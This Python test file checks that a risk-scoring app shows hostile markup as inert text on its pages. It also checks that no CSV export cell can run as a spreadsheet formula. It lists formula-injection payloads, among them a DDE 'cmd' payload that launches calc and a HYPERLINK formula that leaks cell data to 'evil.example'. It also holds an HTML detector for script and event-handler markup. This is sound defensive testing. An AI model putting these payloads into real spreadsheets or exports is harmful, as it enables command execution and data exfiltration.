"""Markup, templates and formulas in what is stored: data in JSON, text on pages, plain cells in every CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from riskscore.archive.output import Output
from riskscore.harmless import runs_as_formula
from riskscore.imports.formats import read_rows
from riskscore.imports.save import save_rows
from riskscore.knowledge import load_knowledge
from riskscore.store import connect
from tests.dashboard.hostile import HOSTILE
from tests.hostile.conftest import Target

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"see")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
SENTENCE = "{} said the Commerce Department ordered a licence for its chips and more chips to China."


class _Markup(HTMLParser):
    """Elements and attributes that run, load or steer something, as a browser would read them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"img", "iframe", "object", "embed", "base", "video", "audio", "math"}:
            self.found.append(tag)
        given = dict(attrs)
        if tag == "script" and "src" not in given and given.get("type") != "application/json":
            self.found.append(tag)
        for name, value in attrs:
            leads = name in {"action", "content", "formaction", "href", "src", "srcdoc", "xlink:href"}
            runs = leads and re.match(r"\s*(javascript|data):", value or "", re.IGNORECASE)
            if name.startswith("on") or runs:
                self.found.append(f"{tag} {name}={value}")


def once(target: Target) -> None:
    if target.database != "sqlite":
        pytest.skip("no page depends on the database")


@pytest.fixture(scope="module")
def desk(target: Target) -> httpx.Client:
    return httpx.Client(base_url=target.url, timeout=30, follow_redirects=True)


@pytest.fixture(scope="module")
def imported(target: Target, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Companies of hostile names, as a file of one's own brings them: id by name."""
    names = {f"h{number}": words for number, words in enumerate((*HOSTILE, *FORMULAS))}
    path: Path = tmp_path_factory.mktemp("import") / "own.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [("id", "name"), *((key, f"{words} Holdings") for key, words in names.items())]
        )
    store = connect(target.database_url)
    save_rows(store, load_knowledge(), read_rows(path, "csv"), "csv", datetime.now(UTC))
    store.close()
    return {words: key for key, words in names.items()}


def stored(desk: httpx.Client, words: str) -> dict[str, Any]:
    article = {
        "title": f"{words} Nvidia chips",
        "text": SENTENCE.format("Nvidia") + " " + words,
        "source": words.strip() or None,
        "published_at": datetime.now(UTC).isoformat(),
    }
    answer = desk.post("/v1/articles", json=article)
    assert answer.status_code == 202, answer.text
    found: dict[str, Any] = answer.json()
    return found


@pytest.mark.parametrize("words", HOSTILE)
def test_markup_in_an_article_is_data_in_json_and_text_on_pages(
    target: Target, desk: httpx.Client, words: str
) -> None:
    once(target)
    article = stored(desk, words)
    answer = desk.get(f"/v1/articles/{article['article_id']}")
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.json()["title"] == f"{words} Nvidia chips"
    assert answer.json()["source"] == words
    for path in (f"/articles/{article['article_id']}", f"/stories/{article['story_id']}", "/", "/alerts"):
        assert_harmless(desk.get(path))
    assert_harmless(desk.get("/v1/companies/nvidia/memo", params={"format": "html"}))


@pytest.mark.parametrize("words", HOSTILE)
def test_markup_in_a_company_is_data_in_json_and_text_on_pages(
    target: Target, desk: httpx.Client, imported: dict[str, str], words: str
) -> None:
    once(target)
    found = desk.get(f"/v1/companies/{imported[words]}")
    assert found.status_code == 200
    assert found.json()["name"].strip() == f"{words} Holdings".strip()
    for path in (f"/companies/{imported[words]}", "/companies?q=Holdings"):
        assert_harmless(desk.get(path))


@pytest.mark.parametrize("words", HOSTILE)
def test_markup_in_what_is_asked_is_not_given_back_as_markup(
    target: Target, desk: httpx.Client, words: str
) -> None:
    once(target)
    for path in ("/companies", "/instruments", "/nowhere"):
        answer = desk.get(path, params={"q": words})
        assert_harmless(answer, status=404 if path == "/nowhere" else 200)


def assert_harmless(answer: httpx.Response, *, status: int = 200) -> None:
    assert answer.status_code == status, answer.text[:300]
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy.replace("style-src 'unsafe-inline'", "")  # a memo brings its own style
    if answer.headers["content-type"].startswith("text/html"):
        markup = _Markup()
        markup.feed(answer.text)
        assert not markup.found
    else:
        assert answer.headers["content-type"] == "application/problem+json"


def test_no_cell_of_any_export_is_a_formula(desk: httpx.Client, imported: dict[str, str]) -> None:
    companies = list(imported.values())
    for words in FORMULAS:
        stored(desk, words)
    alerts = desk.get("/v1/alerts", params={"limit": 100}).json()["alerts"]
    assert any(alert["title"].startswith(FORMULAS[0]) for alert in alerts)
    for alert, words in zip(alerts, FORMULAS, strict=False):
        decision = {"decision": "dismiss", "reason": words.strip(), "note": words.strip()}
        answer = desk.post(f"/v1/alerts/{alert['alert_id']}/disposition", json=decision)
        assert answer.status_code in {200, 422}, answer.text
    read = 0
    for path, parameters in (
        ("/v1/alerts/export", {"format": "csv", "limit": "500"}),
        ("/v1/changes", {"format": "csv", "limit": "500"}),
        ("/v1/companies/nvidia/timeline", {"format": "csv"}),
        ("/v1/companies/compare", {"ids": ",".join(companies[:20]), "format": "csv"}),
        ("/v1/companies", {"order": "risk", "regime": "chips", "format": "csv"}),
    ):
        answer = desk.get(path, params=parameters)
        assert answer.status_code == 200, (path, answer.text)
        assert answer.headers["content-type"].startswith("text/csv"), path
        read += assert_no_formula(answer.content.decode())
    assert read > 500


def assert_no_formula(text: str) -> int:
    """How many cells were looked at."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for cell in cells:
        assert not runs_as_formula(cell) or re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell), cell
    return len(cells)


def test_nor_is_one_of_an_archive(tmp_path: Path) -> None:
    output = Output.of(tmp_path / "scored.csv")
    rows = [{"title": words, "source": words} for words in FORMULAS]
    assert assert_no_formula(output.encode(rows).decode()) == 2 * len(FORMULAS)


@pytest.mark.parametrize("words", FORMULAS)
def test_every_formula_is_known_as_one(words: str) -> None:
    assert runs_as_formula(words)
